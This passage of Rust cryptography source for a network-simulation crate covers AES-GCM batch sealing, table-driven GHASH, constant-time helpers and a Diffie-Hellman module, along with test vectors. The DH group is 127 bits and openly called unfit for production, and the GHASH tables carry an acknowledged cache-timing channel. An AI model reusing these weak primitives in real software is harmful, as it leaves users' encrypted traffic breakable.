        if sealed.len() < TAG_LEN {
            return Err(CryptoError::CiphertextTooShort);
        }
        let (ct, tag) = sealed.split_at(sealed.len() - TAG_LEN);
        let j0 = Self::j0(nonce);
        let expected = self.tag(j0, aad, ct);
        if !ct::eq(&expected, tag) {
            return Err(CryptoError::AuthenticationFailed);
        }
        let mut counter = j0;
        increment_counter(&mut counter);
        let mut pt = ct.to_vec();
        self.aes.ctr_xor(counter, &mut pt);
        Ok(pt)
    }

    /// Reference-path twin of [`AesGcm::open`]. Differential oracle.
    ///
    /// # Errors
    ///
    /// Same contract as [`AesGcm::open`].
    pub fn open_reference(
        &self,
        nonce: &[u8; NONCE_LEN],
        sealed: &[u8],
        aad: &[u8],
    ) -> crate::Result<Vec<u8>> {
        if sealed.len() < TAG_LEN {
            return Err(CryptoError::CiphertextTooShort);
        }
        let (ct, tag) = sealed.split_at(sealed.len() - TAG_LEN);
        let j0 = Self::j0(nonce);
        let expected = self.tag_reference(j0, aad, ct);
        if !ct::eq(&expected, tag) {
            return Err(CryptoError::AuthenticationFailed);
        }
        let mut counter = j0;
        increment_counter(&mut counter);
        let mut pt = ct.to_vec();
        self.aes.ctr_xor_reference(counter, &mut pt);
        Ok(pt)
    }

    /// Seals a whole burst of frames in one call: frame `i` is sealed with
    /// `nonces[i]`, `plaintexts[i]`, `aads[i]`, exactly as `seal` would, and
    /// the outputs are byte-identical to looping `seal` — the batch form
    /// exists so MACsec/PON callers pay telemetry and dispatch once per
    /// TDMA burst instead of once per frame.
    ///
    /// # Errors
    ///
    /// Returns [`CryptoError::BatchLengthMismatch`] when the three slices
    /// disagree in length; nothing is sealed in that case.
    pub fn seal_many(
        &self,
        nonces: &[[u8; NONCE_LEN]],
        plaintexts: &[&[u8]],
        aads: &[&[u8]],
    ) -> crate::Result<Vec<Vec<u8>>> {
        Self::check_batch(nonces.len(), plaintexts.len(), aads.len())?;
        let _span = self.telemetry.span_at("crypto.gcm.seal_many", self.batch_ctx());
        self.sealed_frames.incr(nonces.len() as u64);
        self.sealed_bytes
            .incr(plaintexts.iter().map(|p| p.len() as u64).sum());
        let reference = backend() == Backend::Reference;
        let mut out = Vec::with_capacity(nonces.len());
        for ((nonce, pt), aad) in nonces.iter().zip(plaintexts).zip(aads) {
            out.push(if reference {
                self.seal_reference(nonce, pt, aad)
            } else {
                self.seal_one(nonce, pt, aad)
            });
        }
        Ok(out)
    }

    /// Reference twin of [`AesGcm::seal_many`]: loops [`AesGcm::seal_reference`].
    ///
    /// # Errors
    ///
    /// Same contract as [`AesGcm::seal_many`].
    pub fn seal_many_reference(
        &self,
        nonces: &[[u8; NONCE_LEN]],
        plaintexts: &[&[u8]],
        aads: &[&[u8]],
    ) -> crate::Result<Vec<Vec<u8>>> {
        Self::check_batch(nonces.len(), plaintexts.len(), aads.len())?;
        let mut out = Vec::with_capacity(nonces.len());
        for ((nonce, pt), aad) in nonces.iter().zip(plaintexts).zip(aads) {
            out.push(self.seal_reference(nonce, pt, aad));
        }
        Ok(out)
    }

    /// Opens a whole burst of frames in one call. The outer `Result` only
    /// reports batch-shape errors; each frame gets its own inner `Result`
    /// with exactly the per-frame errors `open` would return, so one forged
    /// frame never masks its neighbours.
    ///
    /// # Errors
    ///
    /// Returns [`CryptoError::BatchLengthMismatch`] when the three slices
    /// disagree in length.
    pub fn open_many(
        &self,
        nonces: &[[u8; NONCE_LEN]],
        sealed: &[&[u8]],
        aads: &[&[u8]],
    ) -> crate::Result<Vec<crate::Result<Vec<u8>>>> {
        Self::check_batch(nonces.len(), sealed.len(), aads.len())?;
        let _span = self.telemetry.span_at("crypto.gcm.open_many", self.batch_ctx());
        self.opened_frames.incr(nonces.len() as u64);
        let reference = backend() == Backend::Reference;
        let mut out = Vec::with_capacity(nonces.len());
        let mut opened = 0u64;
        for ((nonce, ct), aad) in nonces.iter().zip(sealed).zip(aads) {
            let frame = if reference {
                self.open_reference(nonce, ct, aad)
            } else {
                self.open_one(nonce, ct, aad)
            };
            if let Ok(pt) = &frame {
                opened += pt.len() as u64;
            }
            out.push(frame);
        }
        self.opened_bytes.incr(opened);
        Ok(out)
    }

    /// Reference twin of [`AesGcm::open_many`]: loops [`AesGcm::open_reference`].
    ///
    /// # Errors
    ///
    /// Same contract as [`AesGcm::open_many`].
    pub fn open_many_reference(
        &self,
        nonces: &[[u8; NONCE_LEN]],
        sealed: &[&[u8]],
        aads: &[&[u8]],
    ) -> crate::Result<Vec<crate::Result<Vec<u8>>>> {
        Self::check_batch(nonces.len(), sealed.len(), aads.len())?;
        let mut out = Vec::with_capacity(nonces.len());
        for ((nonce, ct), aad) in nonces.iter().zip(sealed).zip(aads) {
            out.push(self.open_reference(nonce, ct, aad));
        }
        Ok(out)
    }

    fn check_batch(nonces: usize, texts: usize, aads: usize) -> crate::Result<()> {
        if nonces != texts || nonces != aads {
            return Err(CryptoError::BatchLengthMismatch {
                nonces,
                texts,
                aads,
            });
        }
        Ok(())
    }

    fn tag(&self, j0: Block, aad: &[u8], ct: &[u8]) -> [u8; TAG_LEN] {
        let s = self.h.ghash(aad, ct);
        let e = u128::from_be_bytes(self.aes.encrypt_block(j0));
        (s ^ e).to_be_bytes()
    }

    fn tag_reference(&self, j0: Block, aad: &[u8], ct: &[u8]) -> [u8; TAG_LEN] {
        let s = ghash_reference(self.h_raw, aad, ct);
        let e = u128::from_be_bytes(self.aes.encrypt_block_reference(j0));
        (s ^ e).to_be_bytes()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::hex;

    fn run_case(key: &str, iv: &str, pt: &str, aad: &str, ct: &str, tag: &str) {
        let key = hex::decode(key).unwrap();
        let iv: [u8; 12] = hex::decode(iv).unwrap().try_into().unwrap();
        let pt = hex::decode(pt).unwrap();
        let aad = hex::decode(aad).unwrap();
        let gcm = AesGcm::new(&key).unwrap();
        // Fast path.
        let sealed = gcm.seal(&iv, &pt, &aad);
        let (got_ct, got_tag) = sealed.split_at(sealed.len() - TAG_LEN);
        assert_eq!(hex::encode(got_ct), ct, "ciphertext");
        assert_eq!(hex::encode(got_tag), tag, "tag");
        assert_eq!(gcm.open(&iv, &sealed, &aad).unwrap(), pt);
        // Reference path must produce the identical bytes.
        assert_eq!(gcm.seal_reference(&iv, &pt, &aad), sealed, "reference seal");
        assert_eq!(gcm.open_reference(&iv, &sealed, &aad).unwrap(), pt);
    }

    // McGrew-Viega GCM spec, test case 1: everything empty.
    #[test]
    fn gcm_test_case_1() {
        run_case(
            "00000000000000000000000000000000",
            "000000000000000000000000",
            "",
            "",
            "",
            "58e2fccefa7e3061367f1d57a4e7455a",
        );
    }

    // Test case 2: one zero block.
    #[test]
    fn gcm_test_case_2() {
        run_case(
            "00000000000000000000000000000000",
            "000000000000000000000000",
            "00000000000000000000000000000000",
            "",
            "0388dace60b6a392f328c2b971b2fe78",
            "ab6e47d42cec13bdf53a67b21257bddf",
        );
    }

    // Test case 3: four blocks, no AAD.
    #[test]
    fn gcm_test_case_3() {
        run_case(
            "feffe9928665731c6d6a8f9467308308",
            "cafebabefacedbaddecaf888",
            "d9313225f88406e5a55909c5aff5269a86a7a9531534f7da2e4c303d8a318a721c3c0c95956809532fcf0e2449a6b525b16aedf5aa0de657ba637b391aafd255",
            "",
            "42831ec2217774244b7221b784d0d49ce3aa212f2c02a4e035c17e2329aca12e21d514b25466931c7d8f6a5aac84aa051ba30b396a0aac973d58e091473f5985",
            "4d5c2af327cd64a62cf35abd2ba6fab4",
        );
    }

    // Test case 4: partial final block plus AAD.
    #[test]
    fn gcm_test_case_4() {
        run_case(
            "feffe9928665731c6d6a8f9467308308",
            "cafebabefacedbaddecaf888",
            "d9313225f88406e5a55909c5aff5269a86a7a9531534f7da2e4c303d8a318a721c3c0c95956809532fcf0e2449a6b525b16aedf5aa0de657ba637b39",
            "feedfacedeadbeeffeedfacedeadbeefabaddad2",
            "42831ec2217774244b7221b784d0d49ce3aa212f2c02a4e035c17e2329aca12e21d514b25466931c7d8f6a5aac84aa051ba30b396a0aac973d58e091",
            "5bc94fbc3221a5db94fae95ae7121a47",
        );
    }

    // Test case 16: AES-256 with AAD.
    #[test]
    fn gcm_test_case_16() {
        run_case(
            "feffe9928665731c6d6a8f9467308308feffe9928665731c6d6a8f9467308308",
            "cafebabefacedbaddecaf888",
            "d9313225f88406e5a55909c5aff5269a86a7a9531534f7da2e4c303d8a318a721c3c0c95956809532fcf0e2449a6b525b16aedf5aa0de657ba637b39",
            "feedfacedeadbeeffeedfacedeadbeefabaddad2",
            "522dc1f099567d07f47f37a32a84427d643a8cdcbfe5c0c97598a2bd2555d1aa8cb08e48590dbb3da7b08b1056828838c5f61e6393ba7a0abcc9f662",
            "76fc6ece0f4e1768cddf8853bb2d551b",
        );
    }

    #[test]
    fn tampered_ciphertext_rejected() {
        let gcm = AesGcm::new(&[3u8; 16]).unwrap();
        let nonce = [5u8; 12];
        let mut sealed = gcm.seal(&nonce, b"secret", b"aad");
        sealed[0] ^= 0x80;
        assert_eq!(
            gcm.open(&nonce, &sealed, b"aad"),
            Err(CryptoError::AuthenticationFailed)
        );
        assert_eq!(
            gcm.open_reference(&nonce, &sealed, b"aad"),
            Err(CryptoError::AuthenticationFailed)
        );
    }

    #[test]
    fn tampered_aad_rejected() {
        let gcm = AesGcm::new(&[3u8; 16]).unwrap();
        let nonce = [5u8; 12];
        let sealed = gcm.seal(&nonce, b"secret", b"aad");
        assert_eq!(
            gcm.open(&nonce, &sealed, b"aae"),
            Err(CryptoError::AuthenticationFailed)
        );
    }

    #[test]
    fn wrong_nonce_rejected() {
        let gcm = AesGcm::new(&[3u8; 16]).unwrap();
        let sealed = gcm.seal(&[5u8; 12], b"secret", b"");
        assert_eq!(
            gcm.open(&[6u8; 12], &sealed, b""),
            Err(CryptoError::AuthenticationFailed)
        );
    }

    #[test]
    fn short_input_rejected() {
        let gcm = AesGcm::new(&[3u8; 16]).unwrap();
        assert_eq!(
            gcm.open(&[0u8; 12], &[0u8; 15], b""),
            Err(CryptoError::CiphertextTooShort)
        );
        assert_eq!(
            gcm.open_reference(&[0u8; 12], &[0u8; 15], b""),
            Err(CryptoError::CiphertextTooShort)
        );
    }

    fn burst(n: usize) -> (Vec<[u8; NONCE_LEN]>, Vec<Vec<u8>>, Vec<Vec<u8>>) {
        let nonces: Vec<[u8; NONCE_LEN]> = (0..n)
            .map(|i| {
                let mut nonce = [0u8; NONCE_LEN];
                nonce[..8].copy_from_slice(&(i as u64).to_be_bytes());
                nonce
            })
            .collect();
        let pts: Vec<Vec<u8>> = (0..n)
            .map(|i| (0..(i * 7) % 64).map(|b| (b ^ i) as u8).collect())
            .collect();
        let aads: Vec<Vec<u8>> = (0..n).map(|i| vec![i as u8; i % 5]).collect();
        (nonces, pts, aads)
    }

    #[test]
    fn seal_many_matches_looped_seal_and_roundtrips() {
        let gcm = AesGcm::new(&[9u8; 24]).unwrap();
        let (nonces, pts, aads) = burst(17);
        let pt_refs: Vec<&[u8]> = pts.iter().map(Vec::as_slice).collect();
        let aad_refs: Vec<&[u8]> = aads.iter().map(Vec::as_slice).collect();
        let sealed = gcm.seal_many(&nonces, &pt_refs, &aad_refs).unwrap();
        for (i, frame) in sealed.iter().enumerate() {
            assert_eq!(*frame, gcm.seal(&nonces[i], &pts[i], &aads[i]), "frame {i}");
        }
        let sealed_refs: Vec<&[u8]> = sealed.iter().map(Vec::as_slice).collect();
        let opened = gcm.open_many(&nonces, &sealed_refs, &aad_refs).unwrap();
        for (i, frame) in opened.into_iter().enumerate() {
            assert_eq!(frame.unwrap(), pts[i], "frame {i}");
        }
    }

    #[test]
    fn open_many_reports_per_frame_tampering() {
        let gcm = AesGcm::new(&[9u8; 16]).unwrap();
        let (nonces, pts, aads) = burst(5);
        let pt_refs: Vec<&[u8]> = pts.iter().map(Vec::as_slice).collect();
        let aad_refs: Vec<&[u8]> = aads.iter().map(Vec::as_slice).collect();
        let mut sealed = gcm.seal_many(&nonces, &pt_refs, &aad_refs).unwrap();
        sealed[2][0] ^= 1;
        let sealed_refs: Vec<&[u8]> = sealed.iter().map(Vec::as_slice).collect();
        let opened = gcm.open_many(&nonces, &sealed_refs, &aad_refs).unwrap();
        for (i, frame) in opened.into_iter().enumerate() {
            if i == 2 {
                assert_eq!(frame, Err(CryptoError::AuthenticationFailed));
            } else {
                assert_eq!(frame.unwrap(), pts[i], "frame {i}");
            }
        }
    }

    #[test]
    fn batch_shape_mismatch_rejected_up_front() {
        let gcm = AesGcm::new(&[9u8; 16]).unwrap();
        let nonces = [[0u8; NONCE_LEN]; 2];
        let texts: [&[u8]; 1] = [b"x"];
        let aads: [&[u8]; 2] = [b"", b""];
        assert!(matches!(
            gcm.seal_many(&nonces, &texts, &aads),
            Err(CryptoError::BatchLengthMismatch {
                nonces: 2,
                texts: 1,
                aads: 2
            })
        ));
        assert!(matches!(
            gcm.open_many(&nonces, &texts, &aads),
            Err(CryptoError::BatchLengthMismatch { .. })
        ));
    }
}
