//! GHASH universal hashing over GF(2^128) (NIST SP 800-38D §6.4).
//!
//! Two implementations live side by side:
//!
//! * [`gf128_mul`] / [`ghash_reference`] — the schoolbook bitwise multiply
//!   chain. Slow (128 shift/XOR steps per block) but transparently equal to
//!   the specification; it is the oracle every fast path is differentially
//!   tested against.
//! * [`GhashKey`] — 8-bit windowed multiplication tables (16 rows × 256
//!   entries × 16 bytes = 64 KiB), built once per key and amortized across a
//!   session. A block multiply becomes 16 table lookups.
//!
//! Building the tables is itself on the session-setup hot path (MACsec SAK
//! installs, TLS-style handshakes, GEM port key establishment all construct
//! an AEAD per key), so construction avoids the naive 128 bitwise multiplies:
//! only row 0 is computed from `H` directly (8 multiplies + a linear
//! combine); every other row is the previous row pushed through a
//! key-independent `SHIFT8` reduction table, because moving a byte one
//! position toward the low end multiplies its field element by x^8.
//!
//! Side-channel note (analyzer rule R11): the table *contents* depend on the
//! key, the table *indices* do not — `mul` is indexed by bytes of the running
//! GHASH state, i.e. by AAD/ciphertext-derived data, never by key bytes. Key
//! material therefore never flows into an index expression, which is the
//! taint R11 tracks. (Like all table-driven GHASH/AES software, lookups are
//! still observable to a cache-timing adversary co-resident on the core; the
//! simulation trades that residual channel for throughput, as the reference
//! path remains available via `GENIO_CRYPTO_BACKEND=reference`.)

use std::sync::OnceLock;

/// GCM's reduction constant: x^128 + x^7 + x^2 + x + 1 in the reflected bit
/// order of SP 800-38D (bit 127 of the `u128` is the x^0 coefficient).
const R: u128 = 0xe1 << 120;

/// Bitwise multiplication in GF(2^128) with the GCM bit ordering.
/// Reference implementation; the hot path uses [`GhashKey`]'s tables.
pub fn gf128_mul(x: u128, y: u128) -> u128 {
    let mut z = 0u128;
    let mut v = x;
    for i in 0..128 {
        if (y >> (127 - i)) & 1 == 1 {
            z ^= v;
        }
        let lsb = v & 1;
        v >>= 1;
        if lsb == 1 {
            v ^= R;
        }
    }
    z
}

/// Interprets up to 16 bytes as a big-endian block, zero-padded on the right
/// (the GCM padding rule for partial final blocks).
pub(crate) fn block_to_u128(b: &[u8]) -> u128 {
    let mut buf = [0u8; 16];
    for (slot, byte) in buf.iter_mut().zip(b.iter()) {
        *slot = *byte;
    }
    u128::from_be_bytes(buf)
}

/// Loads one full 16-byte block. Callers guarantee the length via
/// `chunks_exact(16)`; the copy avoids a fallible slice-to-array cast.
#[inline]
fn be128(block: &[u8]) -> u128 {
    let mut buf = [0u8; 16];
    buf.copy_from_slice(block);
    u128::from_be_bytes(buf)
}

/// Key-independent mul-by-x^8 table: `SHIFT8[b]` is the field product
/// `b · x^8` for the element whose representation is the bare low byte `b`.
/// Built once per process and shared by every [`GhashKey`] construction.
fn shift8_table() -> &'static [u128; 256] {
    static SHIFT8: OnceLock<[u128; 256]> = OnceLock::new();
    SHIFT8.get_or_init(|| {
        let mut t = [0u128; 256];
        for (b, slot) in t.iter_mut().enumerate() {
            let mut v = b as u128;
            // Eight single-bit shifts with the R reduction = multiply by x^8.
            for _ in 0..8 {
                let lsb = v & 1;
                v >>= 1;
                if lsb == 1 {
                    v ^= R;
                }
            }
            *slot = v;
        }
        t
    })
}

/// Multiplies an arbitrary element by x^8: the high 120 bits shift straight
/// down (no reduction can trigger there) and the low byte's contribution
/// comes from the precomputed [`shift8_table`].
#[inline]
fn mul_x8(z: u128, sh8: &[u128; 256]) -> u128 {
    (z >> 8) ^ sh8[(z & 0xff) as usize]
}

/// Precomputed multiplication tables for a fixed GHASH key `H`.
///
/// `gf128_mul(x, h)` is GF(2)-linear in `x`, so `x·H` decomposes into the
/// XOR of per-byte contributions: one 256-entry table per byte position
/// (64 KiB per key) turns the 128-iteration bitwise multiply into 16 table
/// lookups — the standard software-GHASH optimization.
#[derive(Clone)]
pub struct GhashKey {
    table: Box<[[u128; 256]; 16]>,
}

impl std::fmt::Debug for GhashKey {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("GhashKey").finish_non_exhaustive()
    }
}

impl GhashKey {
    /// Builds the per-key tables from the GHASH key `H = E_K(0^128)`.
    ///
    /// Cost: 8 bitwise multiplies for the row-0 basis, then ~2 word ops per
    /// remaining entry via the shared [`shift8_table`] — cheap enough to sit
    /// on the per-session key-install path (MACsec SAK rotation, handshake
    /// key schedules, GEM port establishment).
    pub fn new(h: u128) -> Self {
        let sh8 = shift8_table();
        let mut table = Box::new([[0u128; 256]; 16]);
        // Row 0 (the most-significant byte of the operand): basis bit 7 is
        // the multiplicative identity (bit 127 in the reflected order), so
        // its product is H itself, and each lower bit is one more factor of
        // x — seven single-bit reduction steps, no bitwise multiplies.
        let mut powers = [0u128; 8];
        let mut p = h;
        for slot in powers.iter_mut().rev() {
            *slot = p;
            let lsb = p & 1;
            p >>= 1;
            if lsb == 1 {
                p ^= R;
            }
        }
        // All 256 byte values by linearity: strip the lowest set bit, which
        // indexes an already-filled smaller value.
        for v in 1usize..256 {
            table[0][v] = table[0][v & (v - 1)] ^ powers[(v.trailing_zeros() & 7) as usize];
        }
        // Rows 1..15: a byte one position lower represents the same element
        // multiplied by x^8, and mul-by-x^8 commutes with mul-by-H, so each
        // row is the previous one pushed through `mul_x8`.
        for pos in 1..16 {
            for v in 1usize..256 {
                let prev = table[pos - 1][v];
                table[pos][v] = mul_x8(prev, sh8);
            }
        }
        GhashKey { table }
    }

    /// Computes `x · H` via 16 table lookups.
    #[inline]
    pub fn mul(&self, x: u128) -> u128 {
        let bytes = x.to_be_bytes();
        let mut z = 0u128;
        for (row, b) in self.table.iter().zip(bytes.iter()) {
            z ^= row[usize::from(*b) & 0xff];
        }
        z
    }

    /// GHASH over `aad` then `ct` then the 64-bit bit lengths, per
    /// SP 800-38D §6.4. Table-driven twin of [`ghash_reference`].
    pub fn ghash(&self, aad: &[u8], ct: &[u8]) -> u128 {
        let y = self.fold(0, aad);
        let y = self.fold(y, ct);
        let lens = ((aad.len() as u128 * 8) << 64) | (ct.len() as u128 * 8);
        self.mul(y ^ lens)
    }

    /// Absorbs `data` (zero-padding the final partial block) into the
    /// running GHASH state `y`.
    fn fold(&self, mut y: u128, data: &[u8]) -> u128 {
        let mut blocks = data.chunks_exact(16);
        for block in &mut blocks {
            y = self.mul(y ^ be128(block));
        }
        let rest = blocks.remainder();
        if !rest.is_empty() {
            y = self.mul(y ^ block_to_u128(rest));
        }
        y
    }
}

/// Reference GHASH: the bitwise multiply chain, no tables. This is the
/// differential oracle for [`GhashKey::ghash`] and the implementation the
/// `GENIO_CRYPTO_BACKEND=reference` path runs.
pub fn ghash_reference(h: u128, aad: &[u8], ct: &[u8]) -> u128 {
    let mut y = 0u128;
    for chunk in aad.chunks(16) {
        y = gf128_mul(y ^ block_to_u128(chunk), h);
    }
    for chunk in ct.chunks(16) {
        y = gf128_mul(y ^ block_to_u128(chunk), h);
    }
    let lens = ((aad.len() as u128 * 8) << 64) | (ct.len() as u128 * 8);
    gf128_mul(y ^ lens, h)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn gf128_mul_identity_and_commutativity() {
        // The multiplicative identity in GCM's representation is the block
        // 0x80000...0 (bit 0 set, reflected order).
        let one = 1u128 << 127;
        for x in [0u128, 1, one, 0xdeadbeef_u128 << 64, u128::MAX] {
            assert_eq!(gf128_mul(x, one), x);
            assert_eq!(gf128_mul(one, x), x);
        }
        let a = 0x0123_4567_89ab_cdef_u128;
        let b = 0xfedc_ba98_7654_3210_u128 << 13;
        assert_eq!(gf128_mul(a, b), gf128_mul(b, a));
    }

    #[test]
    fn shift8_is_multiplication_by_x_to_the_8() {
        // x^8 in the reflected representation is bit 127 - 8 = 119.
        let x8 = 1u128 << 119;
        let sh8 = shift8_table();
        let mut z = 0x0123_4567_89ab_cdef_fedc_ba98_7654_3210_u128;
        for _ in 0..100 {
            assert_eq!(mul_x8(z, sh8), gf128_mul(z, x8));
            z ^= z << 13;
            z ^= z >> 7;
            z ^= z << 17;
        }
        assert_eq!(mul_x8(0, sh8), 0);
    }

    #[test]
    fn fast_construction_matches_per_bit_construction() {
        // The original (slow) construction did one bitwise multiply per bit
        // of every byte position. The shift8-based construction must produce
        // the identical 64 KiB of tables.
        let h = 0xb83b_5337_08bf_535d_0aa6_e529_80d5_3b78_u128;
        let key = GhashKey::new(h);
        for pos in 0..16 {
            for v in 0..256usize {
                let mut expected = 0u128;
                for bit in 0..8 {
                    if v & (1 << bit) != 0 {
                        expected ^= gf128_mul((1u128 << bit) << ((15 - pos) * 8), h);
                    }
                }
                assert_eq!(key.table[pos][v], expected, "pos {pos} v {v}");
            }
        }
    }

    #[test]
    fn table_mul_matches_bitwise_mul() {
        let h = 0x66e9_4bd4_ef8a_2c3b_884c_fa59_ca34_2b2e_u128;
        let key = GhashKey::new(h);
        let mut x = 0x0123_4567_89ab_cdef_fedc_ba98_7654_3210_u128;
        for _ in 0..100 {
            assert_eq!(key.mul(x), gf128_mul(x, h));
            // xorshift to wander the space deterministically.
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
        }
        assert_eq!(key.mul(0), 0);
    }

    #[test]
    fn table_ghash_matches_reference_ghash() {
        let h = 0xaae0_6992_acbf_52a3_e8f4_a96e_c920_9be4_u128;
        let key = GhashKey::new(h);
        let data: Vec<u8> = (0..100u8).collect();
        for aad_len in [0usize, 1, 15, 16, 17, 32, 100] {
            for ct_len in [0usize, 1, 15, 16, 17, 33, 100] {
                let aad = &data[..aad_len];
                let ct = &data[..ct_len];
                assert_eq!(
                    key.ghash(aad, ct),
                    ghash_reference(h, aad, ct),
                    "aad {aad_len} ct {ct_len}"
                );
            }
        }
    }
}
