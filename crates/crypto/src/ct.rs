//! Constant-time comparison helpers.
//!
//! Authentication-tag and password checks must not leak *where* two values
//! first differ. These helpers accumulate differences with bitwise OR so the
//! running time depends only on the input length.

/// Compares two byte slices in time independent of their contents.
///
/// Returns `false` immediately if the lengths differ (lengths are public).
///
/// # Example
///
/// ```
/// use genio_crypto::ct::eq;
/// assert!(eq(b"tag", b"tag"));
/// assert!(!eq(b"tag", b"tAg"));
/// assert!(!eq(b"tag", b"tags"));
/// ```
#[must_use]
pub fn eq(a: &[u8], b: &[u8]) -> bool {
    if a.len() != b.len() {
        return false;
    }
    let mut diff = 0u8;
    for (x, y) in a.iter().zip(b.iter()) {
        diff |= x ^ y;
    }
    diff == 0
}

/// Selects `a` when `choice` is true and `b` otherwise, without branching on
/// secret data.
#[must_use]
pub fn select(choice: bool, a: u8, b: u8) -> u8 {
    let mask = (choice as u8).wrapping_neg();
    (a & mask) | (b & !mask)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn equal_slices() {
        assert!(eq(&[], &[]));
        assert!(eq(&[1, 2, 3], &[1, 2, 3]));
    }

    #[test]
    fn different_contents() {
        assert!(!eq(&[1, 2, 3], &[1, 2, 4]));
        assert!(!eq(&[0xff], &[0x00]));
    }

    #[test]
    fn different_lengths() {
        assert!(!eq(&[1, 2], &[1, 2, 3]));
    }

    #[test]
    fn select_behaves() {
        assert_eq!(select(true, 0xaa, 0x55), 0xaa);
        assert_eq!(select(false, 0xaa, 0x55), 0x55);
    }
}
