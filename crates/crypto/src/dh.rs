//! Finite-field Diffie–Hellman over the Mersenne prime `p = 2^127 − 1`.
//!
//! **Simulation-grade.** The 127-bit group gives on the order of 2^60 work
//! for discrete log — wholly inadequate for production, but the protocol
//! machinery built on it (TLS-1.3-like handshakes, MACsec key agreement,
//! node onboarding in `genio-netsec`) is identical to what a 3072-bit group
//! or X25519 would drive. The Mersenne modulus keeps the arithmetic exact and
//! fast with `u128` limbs.

use crate::drbg::HmacDrbg;
use crate::CryptoError;

/// The group modulus `2^127 − 1` (a Mersenne prime).
pub const P: u128 = (1u128 << 127) - 1;

/// Fixed generator. Not a verified primitive root; its order divides
/// `p − 1` and is astronomically large, which suffices for the simulation.
pub const G: u128 = 7;

const MASK: u128 = P;

/// Addition mod `p`.
pub fn add(a: u128, b: u128) -> u128 {
    // a, b < 2^127 so the sum fits in u128 without overflow.
    fold(a + b)
}

fn fold(mut x: u128) -> u128 {
    // x mod (2^127 - 1): fold high bits down; converges in two steps for
    // x < 2^128.
    while x > MASK {
        x = (x & MASK) + (x >> 127);
    }
    if x == MASK {
        0
    } else {
        x
    }
}

/// Multiplication mod `p`, via 64-bit limb products and Mersenne folding.
pub fn mul(a: u128, b: u128) -> u128 {
    // Fold inputs below 2^127 so intermediate limb products cannot overflow.
    let a = fold(a);
    let b = fold(b);
    let (a1, a0) = (a >> 64, a & 0xffff_ffff_ffff_ffff);
    let (b1, b0) = (b >> 64, b & 0xffff_ffff_ffff_ffff);
    let ll = a0 * b0;
    let lh = a0 * b1;
    let hl = a1 * b0;
    let hh = a1 * b1;
    // 256-bit product = hh*2^128 + (lh + hl)*2^64 + ll.
    let mid = lh.wrapping_add(hl);
    let mid_carry = (mid < lh) as u128; // carry into the 2^192 position
    let lo = ll.wrapping_add(mid << 64);
    let lo_carry = (lo < ll) as u128;
    let hi = hh + (mid >> 64) + (mid_carry << 64) + lo_carry;
    // Reduce hi*2^128 + lo mod 2^127-1 using 2^127 ≡ 1:
    let c0 = lo & MASK;
    let c1 = ((hi << 1) | (lo >> 127)) & MASK;
    let c2 = hi >> 126;
    fold(c0 + c1 + c2)
}

/// Modular exponentiation `base^exp mod p` by square-and-multiply.
pub fn pow(mut base: u128, mut exp: u128) -> u128 {
    base = fold(base);
    let mut acc = 1u128;
    while exp > 0 {
        if exp & 1 == 1 {
            acc = mul(acc, base);
        }
        base = mul(base, base);
        exp >>= 1;
    }
    acc
}

/// A Diffie–Hellman key pair.
///
/// # Example
///
/// ```
/// use genio_crypto::dh::KeyPair;
/// use genio_crypto::drbg::HmacDrbg;
///
/// # fn main() -> Result<(), genio_crypto::CryptoError> {
/// let mut rng = HmacDrbg::new(b"example");
/// let alice = KeyPair::generate(&mut rng);
/// let bob = KeyPair::generate(&mut rng);
/// let k1 = alice.shared_secret(bob.public())?;
/// let k2 = bob.shared_secret(alice.public())?;
/// assert_eq!(k1, k2);
/// # Ok(())
/// # }
/// ```
#[derive(Debug, Clone)]
pub struct KeyPair {
    private: u128,
    public: u128,
}

impl KeyPair {
    /// Generates a key pair from the given DRBG.
    pub fn generate(rng: &mut HmacDrbg) -> Self {
        let mut buf = [0u8; 16];
        loop {
            rng.fill(&mut buf);
            let candidate = u128::from_be_bytes(buf) & MASK;
            if candidate > 1 && candidate < P - 1 {
                let public = pow(G, candidate);
                return KeyPair {
                    private: candidate,
                    public,
                };
            }
        }
    }

    /// The public group element `g^x`.
    pub fn public(&self) -> u128 {
        self.public
    }

    /// Computes the shared secret with a peer's public value, returned as the
    /// 16 big-endian bytes of the group element.
    ///
    /// # Errors
    ///
    /// Returns [`CryptoError::InvalidPublicValue`] if `peer_public` is 0, 1,
    /// `p − 1` or not a canonical residue — the classic small-subgroup /
    /// degenerate-value checks.
    pub fn shared_secret(&self, peer_public: u128) -> crate::Result<[u8; 16]> {
        validate_public(peer_public)?;
        let s = pow(peer_public, self.private);
        Ok(s.to_be_bytes())
    }
}

/// Validates a received public value.
///
/// # Errors
///
/// Returns [`CryptoError::InvalidPublicValue`] for degenerate values
/// (`0`, `1`, `p − 1`) or non-canonical residues (`>= p`).
pub fn validate_public(value: u128) -> crate::Result<()> {
    if value <= 1 || value >= P - 1 {
        return Err(CryptoError::InvalidPublicValue);
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn small_multiplications() {
        assert_eq!(mul(3, 4), 12);
        assert_eq!(mul(P - 1, 1), P - 1);
        // (p-1)^2 = p^2 - 2p + 1 ≡ 1 (mod p)
        assert_eq!(mul(P - 1, P - 1), 1);
        assert_eq!(mul(0, 12345), 0);
    }

    #[test]
    fn fold_edge_cases() {
        assert_eq!(fold(P), 0);
        assert_eq!(fold(P + 1), 1);
        assert_eq!(fold(0), 0);
        assert_eq!(add(P - 1, 1), 0);
        assert_eq!(add(P - 1, 2), 1);
    }

    #[test]
    fn fermat_little_theorem() {
        // a^(p-1) ≡ 1 (mod p) for a not divisible by p.
        for a in [2u128, 3, 7, 65537, 0xdead_beef] {
            assert_eq!(pow(a, P - 1), 1, "a = {a}");
        }
    }

    #[test]
    fn pow_basics() {
        assert_eq!(pow(2, 0), 1);
        assert_eq!(pow(2, 10), 1024);
        assert_eq!(pow(2, 127), 1); // 2^127 ≡ 1 mod 2^127 - 1
    }

    #[test]
    fn key_agreement_symmetric() {
        let mut rng = HmacDrbg::new(b"dh-test");
        for _ in 0..10 {
            let a = KeyPair::generate(&mut rng);
            let b = KeyPair::generate(&mut rng);
            assert_eq!(
                a.shared_secret(b.public()).unwrap(),
                b.shared_secret(a.public()).unwrap()
            );
        }
    }

    #[test]
